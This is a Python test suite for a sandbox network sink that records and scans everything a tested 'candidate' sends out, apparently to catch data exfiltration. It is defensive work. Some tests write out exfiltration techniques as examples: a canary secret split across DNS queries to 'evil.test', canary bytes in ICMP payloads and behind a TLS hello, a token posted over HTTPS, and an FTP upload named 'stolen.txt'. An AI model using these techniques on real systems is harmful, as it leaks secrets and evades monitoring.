"""The sink: whatever a candidate sends, by whatever call, to whatever address, is on record whole."""

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import shutil
import socket
import ssl
import struct
import subprocess
import time
import urllib.request

import pytest

from aboveboard.evidence.canary import Scanner
from aboveboard.world.netlink import LAN_ADDRESS

from .playground import TCP, UDP, Record, Service, Stage, play

WEB = "203.0.113.9"
WEB6 = "2001:db8::99"
RESOLVER = "203.0.113.53"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def send(address: str, port: int, data: bytes) -> bytes:
    """Connect, send everything, close our half, read the answer."""
    with socket.create_connection((address, port), timeout=10) as sock:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
        return b"".join(iter(lambda: sock.recv(65_536), b""))


def question(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


SCANNER = Scanner({"word": "c4n4ry-7f3a9e"})
FOUND = [{"id": "word", "enc": "raw"}]


# --- TCP --------------------------------------------------------------------------------------------------------------


def test_raw_tcp_to_any_port_is_recorded_whole() -> None:
    record = play(lambda: send(WEB, 31_337, b"\x00\xffsecret"), [(TCP, WEB, 31_337)])
    flow = record.only("tcp")
    assert (flow["dst"], flow["port"], flow["len"], flow["sha256"]) == (WEB, 31_337, 8, sha(b"\x00\xffsecret"))
    assert flow["head"] == "\x00\udcffsecret"
    assert record.files[str(flow["file"])] == b"\x00\xffsecret"
    assert flow["src"][0] == LAN_ADDRESS  # type: ignore[index]
    assert (flow["p"], flow["c"]) == (77, 1)
    assert "cutoff" not in flow


def test_ipv6_is_recorded_too() -> None:
    record = play(lambda: send(WEB6, 443, b"six"), [(TCP, WEB6, 443)])
    if record.expected == ["invalid"]:
        pytest.skip("this kernel has no IPv6")
    flow = record.only("tcp")
    assert (flow["dst"], flow["sha256"]) == (WEB6, sha(b"six"))


def test_a_mapped_address_is_the_ipv4_address() -> None:
    def client() -> None:
        with socket.socket(socket.AF_INET6) as sock:
            sock.connect((f"::ffff:{WEB}", 9000))
            sock.sendall(b"mapped")

    record = play(client, [(TCP, f"::ffff:{WEB}", 9000)])
    assert (record.only("tcp")["dst"], record.only("tcp")["sha256"]) == (WEB, sha(b"mapped"))


@pytest.mark.parametrize("how", ["sendall", "sendfile", "write"])
def test_sixty_mebibytes_arrive_with_an_equal_hash(how: str) -> None:
    size = 60 << 20

    def client() -> str:
        block = os.urandom(1 << 20)
        digest = hashlib.sha256()
        with socket.create_connection((WEB, 7)) as sock:
            if how == "sendfile":
                fd = os.memfd_create("burst")
                for _ in range(size >> 20):
                    os.write(fd, block)
                sent = 0
                while sent < size:
                    sent += os.sendfile(sock.fileno(), fd, sent, size - sent)
            for _ in range(size >> 20):
                digest.update(block)
                if how == "sendall":
                    sock.sendall(block)
                elif how == "write":
                    rest = memoryview(block)
                    while rest:
                        rest = rest[os.write(sock.fileno(), rest) :]
        return digest.hexdigest()

    record = play(client, [(TCP, WEB, 7)], payload_bytes=1 << 20)
    flow = record.only("tcp")
    assert (flow["len"], flow["sha256"]) == (size, record.said)
    assert len(record.files[str(flow["file"])]) == 1 << 20
    assert [event["what"] for event in record.events if event["e"] == "limit"] == ["payload"]


def test_data_sent_before_a_reset_is_recorded() -> None:
    def client() -> None:
        with socket.create_connection((WEB, 9000)) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            sock.sendall(b"x" * 50_000)

    assert play(client, [(TCP, WEB, 9000)]).only("tcp")["sha256"] == sha(b"x" * 50_000)


def test_a_killed_clients_data_is_recorded_after_its_death() -> None:
    kept = []

    def client() -> None:
        sock = socket.create_connection((WEB, 9000))
        sock.sendall(b"last words")
        kept.append(sock)

    record = play(client, [(TCP, WEB, 9000)], kill_client=True)
    assert (record.only("tcp")["sha256"], record.unfinished) == (sha(b"last words"), 0)


def test_a_silent_client_is_not_left_waiting_for_ever() -> None:
    def client() -> bytes:
        with socket.create_connection((WEB, 9000), timeout=10) as sock:
            sock.sendall(b"ping")
            end = sock.recv(10)
            sock.sendall(b" and more after the end")
            return end

    record = play(client, [(TCP, WEB, 9000)])
    assert record.said == b""
    assert record.only("tcp")["sha256"] == sha(b"ping and more after the end")


def test_a_client_that_never_reads_cannot_fill_the_sinks_memory() -> None:
    request = b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"

    def client() -> None:
        with socket.create_connection((WEB, 80), timeout=20) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.sendall(request * 20_000)

    flow = play(client, [(TCP, WEB, 80)]).only("tcp")
    assert (flow["len"], flow["requests"]) == (len(request) * 20_000, 20_000)
    assert len(flow["more"]) == 31  # type: ignore[arg-type]


def test_many_connections_are_bounded_and_none_is_lost() -> None:
    def client() -> None:
        for number in range(300):
            send(WEB, 9000, b"%d" % number)

    record = play(client, [(TCP, WEB, 9000)], max_flows=100)
    flows = record.flows("tcp")
    assert len(flows) == 101
    assert flows[-1]["n"] == 200
    assert sum(int(str(flow["len"])) for flow in flows) == sum(len(b"%d" % number) for number in range(300))
    assert [event["what"] for event in record.events if event["e"] == "limit"] == ["flows"]


def test_slow_clients_that_hold_every_place_make_way() -> None:
    def client() -> bytes:
        idle = [socket.create_connection((WEB, 9000)) for _ in range(12)]
        for sock in idle:
            sock.sendall(b"slow")
        time.sleep(1.2)  # the bound is a bound in time: a connection must have been silent for a second
        answer = send(WEB, 80, b"GET / HTTP/1.0\r\n\r\n")
        return answer[:12]

    record = play(client, [(TCP, WEB, 9000), (TCP, WEB, 80)], max_connections=8)
    assert record.said == b"HTTP/1.1 200"
    assert sum(1 for flow in record.flows("tcp") if flow["sha256"] == sha(b"slow")) == 12
    assert "connections" in [event.get("what") for event in record.events]


def test_the_worlds_own_loopback_is_left_alone() -> None:
    def client() -> bytes:
        with socket.create_server(("127.0.0.1", 5000)) as server:
            sender = socket.create_connection(("127.0.0.1", 5000))
            sender.sendall(b"private")
            accepted, _ = server.accept()
            return accepted.recv(10)

    record = play(client, [(TCP, "127.0.0.1", 5000), (TCP, "::1", 1), (TCP, LAN_ADDRESS, 5), (TCP, "0.0.0.0", 5)])
    assert record.expected == ["loopback"] * 4
    assert (record.said, record.events) == (b"private", [])


def test_an_address_the_candidate_took_itself_is_reported() -> None:
    holders = []

    def before(stage: Stage) -> None:
        holders.append(socket.create_server(("0.0.0.0", 9000)))

    record = play(lambda: None, [(TCP, WEB, 9000), (TCP, WEB, 9000)], before=before)
    assert record.expected == ["taken", "taken"]
    assert [event["d"] for event in record.events] == [f"{WEB}:9000 belongs to a socket of the candidate"]


def test_the_candidate_can_serve_on_a_port_it_talked_to_elsewhere() -> None:
    def before(stage: Stage) -> None:
        assert stage.sink.expect(socket.AF_INET, TCP, WEB, 8080) == "sink"
        with socket.create_connection((WEB, 8080)) as sock:
            sock.sendall(b"first")
            stage.sink.make_room(TCP, 8080)
            socket.create_server(("0.0.0.0", 8080)).close()

    assert play(lambda: None, before=before).only("tcp")["sha256"] == sha(b"first")


@pytest.mark.parametrize(
    "destination",
    [(socket.SOCK_RAW, WEB, 80), (TCP, WEB, 0), (TCP, WEB, 70_000), (TCP, "not an address", 80), (TCP, "a\0b", 1)],
)
def test_what_is_no_destination_is_invalid(destination: tuple[int, str, int]) -> None:
    assert play(lambda: None, [destination]).expected == ["invalid"]


def test_listeners_are_bounded_oldest_first() -> None:
    def client() -> bool:
        try:
            send(WEB, 1001, b"evicted")
        except ConnectionRefusedError:
            return send(WEB, 1010, b"newest") == b""
        return False

    record = play(client, [(TCP, WEB, 1000 + number) for number in range(11)], max_listeners=8)
    assert record.said is True
    assert record.only("tcp")["port"] == 1010


# --- HTTP -------------------------------------------------------------------------------------------------------------


def test_an_http_post_is_told_with_its_request() -> None:
    def client() -> tuple[int, bytes]:
        request = urllib.request.Request(f"http://{WEB}/up?x=1", b'{"k":1}', {"Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read()

    record = play(client, [(TCP, WEB, 80)])
    assert record.said == (200, b"{}")
    http = record.only("tcp")["http"]
    assert isinstance(http, dict)
    assert (http["method"], http["path"], http["host"], http["body_len"]) == ("POST", "/up?x=1", WEB, 7)
    assert http["headers"]["content-type"] == "application/json"


def test_a_name_looked_up_before_is_on_the_flow() -> None:
    def before(stage: Stage) -> None:
        address = stage.sink.names.addresses("Upload.Test")[0]
        assert stage.sink.name_of(address) == "upload.test"
        stage.sink.expect(socket.AF_INET, TCP, address, 80)
        os.environ["ADDRESS"] = address

    record = play(lambda: send(os.environ["ADDRESS"], 80, b"hi"), before=before)
    assert record.only("tcp")["name"] == "upload.test"


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
@pytest.mark.parametrize(
    ("arguments", "method", "length"),
    [
        (["-d", "a=1"], "POST", 3),
        (["-I"], "HEAD", 0),
        (["-T", "/etc/hostname", "-H", "Transfer-Encoding: chunked"], "PUT", None),
        (["-H", "Expect: 100-continue", "-d", "y" * 2000], "POST", 2000),
        (["--http2"], "GET", 0),
    ],
)
def test_curl_gets_an_answer_to(arguments: list[str], method: str, length: int | None) -> None:
    def client() -> str:
        command = ["curl", "-sS", "-m", "10", "--noproxy", "*", *arguments, f"http://{WEB}/x", "-w", "%{http_code}"]
        return subprocess.run(command, capture_output=True, text=True, check=True).stdout[-3:]

    record = play(client, [(TCP, WEB, 80)])
    assert record.said == "200"
    http = record.only("tcp")["http"]
    assert isinstance(http, dict)
    assert http["method"] == method
    assert http["body_len"] == (length if length is not None else os.path.getsize("/etc/hostname"))


def test_a_canary_split_by_chunk_headers_is_found() -> None:
    body = (
        b"POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nc4n\r\na\r\n4ry-7f3a9e\r\n0\r\n\r\n"
    )
    record = play(lambda: send(WEB, 80, body), [(TCP, WEB, 80)], scanner=SCANNER.stream)
    assert record.only("tcp")["canaries"] == FOUND


# --- TLS --------------------------------------------------------------------------------------------------------------


def test_https_is_read_when_the_client_trusts_the_authority() -> None:
    def client() -> bytes:
        context = ssl.create_default_context(cafile=os.environ["CA"])
        request = urllib.request.Request(f"https://{WEB}/login", b"user=dev&token=c4n4ry-7f3a9e")
        with urllib.request.urlopen(request, timeout=10, context=context) as response:
            return bytes(response.read())

    record = play(client, [(TCP, WEB, 443)], trust="CA", scanner=SCANNER.stream)
    flow = record.only("tcp")
    assert record.said == b"{}"
    assert flow["http"]["path"] == "/login"  # type: ignore[index]
    assert flow["tls"]["decrypted"] is True  # type: ignore[index]
    assert flow["canaries"] == FOUND
    assert record.files[str(flow["file"])].endswith(b"user=dev&token=c4n4ry-7f3a9e")
    assert flow["wire"] > flow["len"]  # type: ignore[operator]


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
@pytest.mark.parametrize("option", ["--tlsv1.3", "--tls-max=1.2"])
def test_curl_trusts_a_leaf_for_the_name_it_asks_for(option: str) -> None:
    def client() -> str:
        command = ["curl", "-sS", "-m", "10", "--noproxy", "*", *option.split("=")]
        command += [
            "--cacert",
            os.environ["CA"],
            "--resolve",
            f"api.test:443:{WEB}",
            "-d",
            "z=1",
            "https://api.test/v1",
        ]
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        return done.stdout + done.stderr

    record = play(client, [(TCP, WEB, 443)], trust="CA")
    assert record.said == "{}"
    tls = record.only("tcp")["tls"]
    assert isinstance(tls, dict)
    assert (tls["sni"], tls["decrypted"]) == ("api.test", True)
    assert "http/1.1" in tls["alpn"]


def test_a_megabyte_over_tls_is_whole() -> None:
    body = os.urandom(3 << 20)

    def client() -> bytes:
        context = ssl.create_default_context(cafile=os.environ["CA"])
        with urllib.request.urlopen(f"https://{WEB}/", body, timeout=20, context=context) as response:
            return bytes(response.read())

    record = play(client, [(TCP, WEB, 443)], trust="CA")
    flow = record.only("tcp")
    assert flow["http"]["body_len"] == len(body)  # type: ignore[index]
    assert record.files[str(flow["file"])].endswith(body)


def test_a_client_that_pins_another_authority_is_told_by_name_and_failure() -> None:
    def client() -> str:
        context = ssl.create_default_context()
        try:
            with socket.create_connection((WEB, 443), timeout=10) as sock:
                context.wrap_socket(sock, server_hostname="pinned.test")
        except ssl.SSLCertVerificationError as error:
            return str(error.verify_message)
        return "trusted"

    record = play(client, [(TCP, WEB, 443)])
    assert "certificate" in str(record.said)
    tls = record.only("tcp")["tls"]
    assert isinstance(tls, dict)
    assert (tls["sni"], tls["decrypted"]) == ("pinned.test", False)
    assert tls["error"]
    assert record.only("tcp")["len"]


def test_without_interception_the_hello_is_recorded_and_the_client_gets_an_alert() -> None:
    def client() -> str:
        try:
            with socket.create_connection((WEB, 443), timeout=10) as sock:
                ssl.create_default_context().wrap_socket(sock, server_hostname="closed.test")
        except ssl.SSLError as error:
            return str(error.reason)
        return "connected"

    record = play(client, [(TCP, WEB, 443)], intercept=False)
    assert "ALERT" in str(record.said)
    assert record.only("tcp")["tls"]["sni"] == "closed.test"  # type: ignore[index]


def test_bytes_smuggled_behind_a_client_hello_are_recorded() -> None:
    client_side, wire = ssl.MemoryBIO(), ssl.MemoryBIO()
    engine = ssl.create_default_context().wrap_bio(client_side, wire, server_hostname="a.test")
    with pytest.raises(ssl.SSLWantReadError):
        engine.do_handshake()
    data = wire.read() + b"c4n4ry-7f3a9e in the clear"
    record = play(lambda: len(send(WEB, 443, data)), [(TCP, WEB, 443)], scanner=SCANNER.stream)
    flow = record.only("tcp")
    assert flow["sha256"] == sha(data)
    assert FOUND[0] in flow["canaries"]  # type: ignore[operator]


def test_an_https_proxy_tunnel_is_looked_into() -> None:
    def client() -> bytes:
        context = ssl.create_default_context(cafile=os.environ["CA"])
        handler = urllib.request.ProxyHandler({"https": f"http://{WEB}:3128"})
        opener = urllib.request.build_opener(handler, urllib.request.HTTPSHandler(context=context))
        with opener.open("https://hidden.test/deep", b"inner", timeout=10) as response:
            return bytes(response.read())

    record = play(client, [(TCP, WEB, 3128)], trust="CA")
    flow = record.only("tcp")
    assert (record.said, flow["tunnel"]) == (b"{}", "hidden.test:443")
    assert flow["http"]["path"] == "/deep"  # type: ignore[index]
    assert flow["tls"]["sni"] == "hidden.test"  # type: ignore[index]
    assert record.files[str(flow["file"])].endswith(b"inner")


# --- servers that speak first -----------------------------------------------------------------------------------------


def test_a_mail_client_hands_over_its_message() -> None:
    import smtplib

    def client() -> None:
        with smtplib.SMTP(WEB, 25, local_hostname="dev.test", timeout=10) as mail:
            mail.login("dev@a.test", "hunter2")
            mail.sendmail("dev@a.test", ["x@b.test"], "Subject: s\r\n\r\nthe message body")

    record = play(client, [(TCP, WEB, 25)])
    data = record.files[str(record.only("tcp")["file"])]
    assert b"the message body" in data
    assert b"RCPT TO:<x@b.test>" in data or b"rcpt TO:<x@b.test>" in data


def test_an_ftp_client_uploads_its_file() -> None:
    import ftplib
    import io

    def client() -> str:
        with ftplib.FTP(timeout=10) as ftp:
            ftp.connect(WEB, 21)
            ftp.login("dev", "hunter2")
            return ftp.storbinary("STOR stolen.txt", io.BytesIO(b"file content"))

    # The data connection goes where the server said: a destination like any other.
    record = play(client, [(TCP, WEB, 21), (TCP, WEB, 50_021)])
    assert str(record.said).startswith("226")
    assert sha(b"file content") in [flow["sha256"] for flow in record.flows("tcp") if flow["port"] != 21]


# --- datagrams --------------------------------------------------------------------------------------------------------


def test_udp_is_recorded_once_in_order_however_it_was_sent() -> None:
    def client() -> None:
        with socket.socket(socket.AF_INET, UDP) as sock:
            sock.sendto(b"one ", (WEB, 5555))
            sock.connect((WEB, 5555))
            sock.send(b"two ")
            os.write(sock.fileno(), b"three ")
            sock.sendmsg([b"fo", b"ur"])

    record = play(client, [(UDP, WEB, 5555)])
    flow = record.only("udp")
    assert (flow["n"], flow["len"], flow["sha256"]) == (4, 18, sha(b"one two three four"))
    assert record.drops == 0
    assert record.files[str(flow["file"])] == b"one two three four"


def test_sendmmsg_datagrams_are_all_recorded() -> None:
    class Iovec(ctypes.Structure):
        _fields_ = (("base", ctypes.c_char_p), ("length", ctypes.c_size_t))

    class Header(ctypes.Structure):
        _fields_ = (
            ("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(Iovec)),
            ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
            ("flags", ctypes.c_int),
        )  # fmt: skip

    class Message(ctypes.Structure):
        _fields_ = (("header", Header), ("sent", ctypes.c_uint))

    def client() -> int:
        parts = [b"a1", b"b22", b"c333"]
        vectors = (Iovec * 3)(*[Iovec(part, len(part)) for part in parts])
        messages = (Message * 3)(*[Message(Header(iov=ctypes.pointer(vector), iovlen=1)) for vector in vectors])
        with socket.socket(socket.AF_INET, UDP) as sock:
            sock.connect((WEB, 5555))
            return int(ctypes.CDLL(None).sendmmsg(sock.fileno(), messages, 3, 0))

    record = play(client, [(UDP, WEB, 5555)])
    assert record.said == 3
    assert record.only("udp")["sha256"] == sha(b"a1b22c333")


def test_udp_to_a_destination_nobody_announced_is_still_seen() -> None:
    def client() -> None:
        with socket.socket(socket.AF_INET, UDP) as sock:
            sock.sendto(b"unannounced", (WEB, 6666))

    record = play(client)
    assert record.only("udp")["sha256"] == sha(b"unannounced")


def test_udp_over_ipv6_and_to_multicast_groups_is_seen() -> None:
    def client() -> None:
        with socket.socket(socket.AF_INET6, UDP) as sock:
            sock.sendto(b"six", (WEB6, 7777))
        with socket.socket(socket.AF_INET, UDP) as sock:
            sock.sendto(b"mdns", ("224.0.0.251", 5353))

    record = play(client, [(UDP, WEB6, 7777), (UDP, "224.0.0.251", 5353)])
    if record.expected[0] == "invalid":
        pytest.skip("this kernel has no IPv6")
    assert {(flow["dst"], flow["sha256"]) for flow in record.flows("udp")} == {
        (WEB6, sha(b"six")),
        ("224.0.0.251", sha(b"mdns")),
    }


def test_loopback_datagrams_are_nobodys_business() -> None:
    def client() -> None:
        with socket.socket(socket.AF_INET, UDP) as sock, socket.socket(socket.AF_INET6, UDP) as six:
            sock.sendto(b"local", ("127.0.0.1", 6666))
            six.sendto(b"local", ("::1", 6666))

    assert play(client).events == []


def test_an_echo_request_is_a_flow_with_its_payload() -> None:
    def client() -> None:
        with socket.socket(socket.AF_INET, UDP, socket.IPPROTO_ICMP) as sock:
            sock.sendto(b"\x08\0\0\0\0\0\0\x01c4n4ry-7f3a9e", (WEB, 0))
        with socket.socket(socket.AF_INET6, UDP, socket.IPPROTO_ICMPV6) as sock:
            sock.sendto(b"\x80\0\0\0\0\0\0\x01c4n4ry-7f3a9e", (WEB6, 0))

    record = play(client, scanner=SCANNER.stream)
    flows = record.flows("icmp")
    assert [flow["dst"] for flow in flows] == [WEB, WEB6]
    assert all(str(flow["head"]).endswith("c4n4ry-7f3a9e") and flow["canaries"] for flow in flows)


def test_ntp_is_answered_with_a_sane_time() -> None:
    def client() -> float:
        with socket.socket(socket.AF_INET, UDP) as sock:
            sock.settimeout(5)
            sock.sendto(b"\x23" + b"\0" * 47, (WEB, 123))
            answer = sock.recv(100)
        return float(struct.unpack("!I", answer[40:44])[0] - 2_208_988_800)

    record = play(client, [(UDP, WEB, 123)])
    assert abs(float(str(record.said)) - time.time()) < 60
    assert record.only("udp")["len"] == 48


def test_lost_datagrams_are_counted() -> None:
    def before(stage: Stage) -> None:
        with socket.socket(socket.AF_INET, UDP) as sock:
            for _ in range(20_000):
                sock.sendto(b"z" * 1000, (WEB, 9))

    record = play(lambda: None, before=before)
    assert record.drops > 0
    assert sum(int(str(flow["n"])) for flow in record.flows("udp")) + record.drops == 20_000


# --- DNS --------------------------------------------------------------------------------------------------------------


def ask(name: str, kind: int = 1) -> bytes:
    with socket.socket(socket.AF_INET, UDP) as sock:
        sock.settimeout(5)
        sock.sendto(question(name, kind), (RESOLVER, 53))
        return sock.recv(1500)


def test_each_query_is_a_flow_with_its_name_and_type() -> None:
    record = play(lambda: [ask("secret.x.test"), ask("secret.x.test", 28)], [(UDP, RESOLVER, 53)])
    assert [flow["dns"] for flow in record.flows("dns")] == [
        {"name": "secret.x.test", "type": "A"},
        {"name": "secret.x.test", "type": "AAAA"},
    ]
    assert record.flows("udp") == []
    first, second = record.said  # type: ignore[misc]
    assert first[-4:-2] in (b"\xc6\x12", b"\xc6\x13")  # 198.18.0.0/15
    assert second[-16:-12] == b"\x20\x01\x0d\xb8"


def test_dns_over_tcp_is_the_same_dns() -> None:
    message = question("t.x.test", 16)
    record = play(lambda: send(RESOLVER, 53, len(message).to_bytes(2, "big") + message), [(TCP, RESOLVER, 53)])
    assert record.only("dns")["dns"] == {"name": "t.x.test", "type": "TXT"}
    assert record.only("tcp")["len"] == len(message) + 2
    assert b"v=spf1" in record.said  # type: ignore[operator]


def test_a_secret_cut_into_many_queries_is_found_across_them() -> None:
    def client() -> None:
        for number, part in enumerate(("c4n4", "ry-7f", "3a9e")):
            for kind in (1, 28):
                ask(f"{number}.{part}.evil.test", kind)

    record = play(client, [(UDP, RESOLVER, 53)], scanner=SCANNER.stream, scan_names=SCANNER.scan_names)
    told = [flow for flow in record.flows("dns") if "canaries" in flow]
    assert [(flow["name"], flow["zone"], flow["n"]) for flow in told] == [("evil.test", True, 3)]


def test_garbage_on_the_dns_port_is_a_udp_flow() -> None:
    def client() -> None:
        with socket.socket(socket.AF_INET, UDP) as sock:
            sock.sendto(b"not dns at all", (RESOLVER, 53))

    assert play(client, [(UDP, RESOLVER, 53)]).only("udp")["sha256"] == sha(b"not dns at all")


# --- declared services ------------------------------------------------------------------------------------------------


def _serve_model(path: str) -> None:
    """A tiny model endpoint on a Unix socket, in a process of its own, that answers one request."""
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen()
    if os.fork() == 0:
        connection, _ = server.accept()
        request = connection.recv(65_536)
        body = json.dumps({"got": len(request)}).encode()
        connection.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        connection.close()
        os._exit(0)
    server.close()


def _dial(service: object) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(str(getattr(service, "upstream")).removeprefix("unix:"))  # noqa: B009
    return sock


def _model(tmp: str) -> Record:
    path = f"{tmp}/model.sock"

    def before(stage: Stage) -> None:
        _serve_model(path)
        os.environ["ADDRESS"] = stage.sink.service_addresses(service)[0]

    def talk() -> bytes:
        with urllib.request.urlopen(f"http://{os.environ['ADDRESS']}:8000/v1", b"prompt", timeout=10) as response:
            return bytes(response.read())

    service = Service("model", "model.test", 8000, f"unix:{path}")
    return play(talk, services=[service], dial=_dial, before=before)


def test_a_declared_service_is_reached_and_both_directions_are_recorded(tmp_path: object) -> None:
    record = _model(str(tmp_path))
    flow = record.only("tcp")
    assert (flow["service"], flow["name"], flow["port"]) == ("model", "model.test", 8000)
    assert b'"got"' in record.said  # type: ignore[operator]
    assert flow["http"]["body_len"] == 6  # type: ignore[index]
    reply = flow["reply"]
    assert isinstance(reply, dict)
    assert record.files[reply["file"]].endswith(record.said)  # type: ignore[arg-type]


def test_a_service_that_cannot_be_reached_ends_the_connection_and_says_so() -> None:
    service = Service("model", "198.51.100.7", 8000, "unix:/nonexistent")
    record = play(lambda: send("198.51.100.7", 8000, b"hello"), services=[service], dial=_dial)
    flow = record.only("tcp")
    assert record.said == b""
    assert (flow["sha256"], flow["service"]) == (sha(b"hello"), "model")
    assert "cannot be reached" in str(flow["failed"])
